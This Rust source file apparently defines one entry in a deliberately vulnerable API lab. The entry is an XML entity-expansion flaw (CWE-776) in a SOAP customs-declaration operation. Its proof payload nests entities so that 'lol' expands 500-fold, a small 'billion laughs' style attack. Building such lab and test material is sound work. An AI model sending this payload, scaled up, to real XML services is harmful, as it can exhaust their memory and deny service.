use crate::{
    flaws::{FlawItem, Protocol},
    proof::{Expect::Times, raw},
};

/// Entities of a document are expanded.
pub(crate) static FLAW: FlawItem = FlawItem {
    id: "xml-entities",
    title: "Entities of a document are expanded",
    owasp: "API4:2023",
    cwe: 776,
    protocol: Protocol::Soap,
    operation: "LodgeDeclaration",
    what: "A few lines become as much text as one likes.",
    proof: &[raw("ada", "/soap", "text/xml; charset=utf-8", r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:q="urn:quayside:customs"><s:Body><q:LodgeDeclaration><goods>&d;</goods><value>1</value></q:LodgeDeclaration></s:Body></s:Envelope>"#).shows(&[Times("lol", 500)])],
};
